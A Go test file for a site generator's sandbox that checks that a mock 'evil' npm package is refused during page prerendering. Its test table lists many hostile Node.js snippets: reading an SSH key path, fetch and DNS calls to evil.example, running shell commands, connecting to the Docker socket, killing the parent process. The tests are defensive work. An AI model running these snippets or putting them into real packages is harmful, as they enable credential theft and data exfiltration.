package render

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gaceta.dev/gaceta/generator/diag"
)

// evil is the installed package; TRY is what it does.
const evil = `
import fs from "node:fs"; import net from "node:net"; import http from "node:http"; import https from "node:https"; import http2 from "node:http2"; import tls from "node:tls";
import dns from "node:dns"; import dgram from "node:dgram"; import cp from "node:child_process"; import { Worker } from "node:worker_threads";
import { connect, Socket } from "node:net"; import { execSync } from "node:child_process"; import { readFile } from "node:fs/promises"; import { createRequire } from "node:module";
import { lookup } from "node:dns/promises"; import inspector from "node:inspector"; import vm from "node:vm"; import v8 from "node:v8";
const require = createRequire(import.meta.url);
const secret = process.env.HOME ? process.env.HOME + "/.ssh/id_ed25519" : "SECRET";
const swallow = async (f) => { try { await f(); } catch {} };
export async function evil() { TRY; return "innocent"; }
`

// messages are those for attempts that Node or the system would also refuse, but with
// other words: authors recognize the function that they called.
var messages = map[string]string{
	"fetches":                             "opens a connection to https://evil.example/?v",
	"asks by http":                        "opens a connection to http://evil.example.",
	"asks by https":                       "opens a connection to https://evil.example.",
	"asks by http2":                       "opens a connection to https://evil.example.",
	"asks by tls":                         "opens a connection to 443.",
	"sends a packet by its own socket":    "sends packets to ",
	"waits for packets at its own socket": "sends packets to 9.",
	"sends a packet":                      "opens a socket of type udp4.",
	"forks":                               "starts the program ",
	"forks a cluster":                     "starts a process.",
	"prepares a cluster":                  "starts a process.",
	"changes how modules are loaded":      "changes how modules are loaded, with data:text/javascript,1.",
	"writes a report":                     "writes the file ",
	"writes a trace":                      "writes a trace.",
	"writes its memory when it is full":   "writes the file 1.",
	"starts a worker":                     "starts the worker 1.",
	"kills the generator":                 "changes the process by ",
	"debugs the generator":                "changes the process by ",
	"asks for the insides of Node":        "changes the process by tcp_wrap.",
	"writes a file by a flag of V8":       "changes V8 by --trace-turbo.",
	"listens":                             "waits for connections at 0.",
}

// TestRefusedCode tries what a package could try while pages are
// prerendered. Every attempt fails the page and names the package, whether it
// swallows the error or not.
func TestRefusedCode(t *testing.T) {
	for name, try := range map[string]string{
		"reads a key":                         `fs.readFileSync("SECRET")`,
		"reads a key and says nothing":        `await swallow(() => fs.readFileSync("SECRET"))`,
		"reads a key by promise":              `await swallow(() => readFile("SECRET"))`,
		"reads a key by callback":             `await swallow(() => new Promise((done) => fs.readFile("SECRET", done)))`,
		"reads a key as a stream":             `await swallow(() => new Promise((done, fail) => fs.createReadStream("SECRET").on("error", fail).on("close", done)))`,
		"opens a key":                         `await swallow(() => fs.openSync("SECRET"))`,
		"lists a folder":                      `await swallow(() => fs.readdirSync("/"))`,
		"reads a key as a module":             `require("SECRET")`,
		"writes a file":                       `await swallow(() => fs.writeFileSync("SECRET", "x"))`,
		"removes a file":                      `await swallow(() => fs.rmSync("SECRET"))`,
		"makes a link":                        `await swallow(() => fs.symlinkSync("/etc", "SECRET.link"))`,
		"connects":                            `net.connect(80, "127.0.0.1")`,
		"connects and says nothing":           `await swallow(() => net.connect(80, "127.0.0.1"))`,
		"connects by name of the function":    `await swallow(() => connect({ host: "evil.example", port: 443 }))`,
		"connects a socket of its own":        `await swallow(() => new Socket().connect(80, "127.0.0.1"))`,
		"connects to a socket in a file":      `await swallow(() => net.connect("/var/run/docker.sock"))`,
		"connects by what Node holds":         `await swallow(() => process.getBuiltinModule("node:net").connect(80))`,
		"connects by require":                 `await swallow(() => require("net").connect(80))`,
		"connects in another context":         `await swallow(() => vm.runInNewContext("r('net').connect(80)", { r: require }))`,
		"connects from far below":             `await swallow(() => vm.runInThisContext("(function deep(n, f) { return n ? deep(n - 1, f) : f() })")(20, net.connect.bind(null, 80)))`,
		"connects later":                      `setTimeout(() => net.connect(80, "127.0.0.1"), 0); await new Promise((done) => setTimeout(done, 50))`,
		"connects in a promise nobody awaits": `Promise.resolve().then(() => net.connect(80)); await new Promise((done) => setTimeout(done, 50))`,
		"listens":                             `await swallow(() => net.createServer().listen(0))`,
		"fetches":                             `await swallow(() => fetch("https://evil.example/?" + process.version))`,
		"asks by http":                        `await swallow(() => http.get("http://evil.example"))`,
		"asks by https":                       `await swallow(() => https.request("https://evil.example"))`,
		"asks by http2":                       `await swallow(() => http2.connect("https://evil.example"))`,
		"asks by tls":                         `await swallow(() => tls.connect(443, "evil.example"))`,
		"looks up a name":                     `await swallow(() => dns.lookup("secret.evil.example", () => {}))`,
		"looks up a name by promise":          `await swallow(() => lookup("secret.evil.example"))`,
		"resolves a name of its own":          `await swallow(() => new dns.Resolver().resolve4("evil.example", () => {}))`,
		"resolves a name of its own later":    `await swallow(() => new dns.promises.Resolver().resolveTxt("evil.example"))`,
		"sends a packet":                      `await swallow(() => dgram.createSocket("udp4"))`,
		"sends a packet by its own socket":    `await swallow(() => new dgram.Socket("udp4").send("x", 9, "127.0.0.1"))`,
		"waits for packets at its own socket": `await swallow(() => new dgram.Socket("udp4").bind(9))`,
		"runs a program":                      `cp.execSync("id")`,
		"runs a program and says nothing":     `await swallow(() => execSync("id"))`,
		"runs a program without waiting":      `await swallow(() => cp.spawn("sh", ["-c", "id"]))`,
		"runs a program of its own":           `await swallow(() => new cp.ChildProcess().spawn({ file: "id", args: ["id"] }))`,
		"forks":                               `await swallow(() => cp.fork("SECRET"))`,
		"starts a worker":                     `await swallow(() => new Worker("1", { eval: true }))`,
		"asks for the insides of Node":        `await swallow(() => process.binding("tcp_wrap"))`,
		"loads native code":                   `await swallow(() => process.dlopen({ exports: {} }, "SECRET.node"))`,
		"opens the inspector":                 `await swallow(() => inspector.open(0))`,
		"writes its memory to a file":         `await swallow(() => v8.writeHeapSnapshot("SECRET"))`,
		"kills the generator":                 `await swallow(() => process.kill(process.ppid, "SIGKILL"))`,
		"forks a cluster":                     `await swallow(() => require("node:cluster").fork())`,
		"prepares a cluster":                  `await swallow(() => require("node:cluster").setupPrimary({ exec: "SECRET" }))`,
		"writes a trace":                      `await swallow(() => require("node:trace_events").createTracing({ categories: ["node"] }).enable())`,
		"writes its memory when it is full":   `await swallow(() => v8.setHeapSnapshotNearHeapLimit(1))`,
		"writes a report":                     `await swallow(() => process.report.writeReport("SECRET"))`,
		"changes how modules are loaded":      `await swallow(() => require("node:module").register("data:text/javascript,1"))`,
		"asks for what is linked into Node":   `await swallow(() => process._linkedBinding("tcp_wrap"))`,
		"debugs the generator":                `await swallow(() => process._debugProcess(process.ppid))`,
		"goes to another folder":              `await swallow(() => process.chdir("/"))`,
		"becomes another user":                `await swallow(() => (process.setuid ?? process.chdir)(process.getuid?.()))`,
		"becomes another group":               `await swallow(() => (process.setgid ?? process.chdir)(process.getgid?.()))`,
		"changes its mask":                    `await swallow(() => process.umask(0))`,
		"becomes another program":             `await swallow(() => (process.execve ?? process.chdir)("/bin/sh", [], {}))`,
		"writes a file by a flag of V8":       `await swallow(() => v8.setFlagsFromString("--trace-turbo"))`,
		"takes more memory by a flag of V8":   `await swallow(() => v8.setFlagsFromString("--max-old-space-size=9000"))`,
		"ends with a dump":                    `await swallow(() => process.abort())`,
		"puts the guard back":                 `await swallow(() => { Object.defineProperty(net, "connect", { value: 1 }) ; }); net.connect(80)`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p, _ := guarded(t, strings.Replace(evil, "TRY", try, 1), `evil()`)
			_, list, err := p.Render(t.Context(), job("home", map[string]any{}))
			if message := named(t, list, err); !strings.Contains(message, "“evil” "+messages[name]) {
				t.Errorf("it says %q and not %q", message, messages[name])
			}
		})
	}
}

func TestRefusedCodeAtLoad(t *testing.T) {
	p, _ := guarded(t, strings.Replace(evil, "TRY", "", 1)+"\ntry { fs.readFileSync('SECRET') } catch {}\n", `""`)
	_, list, err := p.Render(t.Context(), job("home", map[string]any{}))
	if err == nil || !strings.HasPrefix(err.Error(), "The site cannot be rendered: ") {
		t.Errorf("a page is blamed: %v %v", list, err)
	}
	named(t, list, err)
}

// TestRefusedCodeAfterItsPage runs code that waits until its page is done. No page may come after it that could be
// blamed.
func TestRefusedCodeAfterItsPage(t *testing.T) {
	p, _ := guarded(t, strings.Replace(evil, "TRY", `setTimeout(() => swallow(() => net.connect(80, "127.0.0.1")), 20)`, 1), `evil()`)
	if r, list, err := p.Render(t.Context(), job("home", map[string]any{})); err != nil || len(list) > 0 || string(r.HTML) != "innocent" {
		t.Errorf("%s %v %v", r.HTML, list, err)
	}
	select {
	case <-p.failed:
		named(t, nil, p.failure)
	case <-time.After(soon):
		t.Error("nobody has noticed")
	}
}

func TestAllowedCode(t *testing.T) {
	for name, try := range map[string]string{
		"the language": `new TextEncoder(); structuredClone({}); await new Promise((done) => setTimeout(done, 1)); new MessageChannel()`,
		"cryptography": `require("node:crypto").randomUUID()`,
		// As lodash does when it is loaded.
		"the types of values": `const { isTypedArray } = process.binding("util"); if (!isTypedArray(new Uint8Array())) throw new Error("no types")`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p, _ := guarded(t, strings.Replace(evil, "TRY", try, 1), `evil()`)
			r, list, err := p.Render(t.Context(), job("home", map[string]any{}))
			if err != nil || len(list) > 0 || string(r.HTML) != "innocent" {
				t.Errorf("%s %v %v", r.HTML, list, err)
			}
		})
	}
}

// guarded opens a pool whose server uses the package.
func guarded(t *testing.T, code, call string) (*Pool, string) {
	t.Helper()
	root := t.TempDir()
	secret := filepath.Join(t.TempDir(), "id_ed25519")
	file := writeCode(t, root, `import { evil } from "./node_modules/evil/index.mjs"; export function start() { return { async render() { return { html: await `+call+`, islands: [] } } } }`)
	for file, text := range map[string]string{
		secret: "hunter2",
		filepath.Join(root, ".gaceta/server/node_modules/evil/index.mjs"): strings.NewReplacer("SECRET", secret, "WORKER", filepath.Join(root, ".gaceta/worker")).Replace(code),
	} {
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	p, err := Open(Options{Work: cacheIn(t, root), Server: serverIn(t, root), Root: root, Jobs: 1, PageTimeout: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(p.Close)
	p.Load(file, json.RawMessage(`{}`))
	t.Cleanup(func() {
		if text, err := os.ReadFile(secret); err != nil || string(text) != "hunter2" {
			t.Errorf("the file holds %q, %v", text, err)
		}
	})
	return p, secret
}

// named checks that the error names the package, and returns its message.
func named(t *testing.T, list diag.List, err error) string {
	t.Helper()
	if site := (*SiteError)(nil); errors.As(err, &site) {
		list, err = site.List, nil
	}
	if err != nil || len(list) != 1 || list[0].Code != "render-refused" || !strings.Contains(list[0].Message, "the package “evil”") {
		t.Fatalf("%v %v", list, err)
	}
	return list[0].Message
}
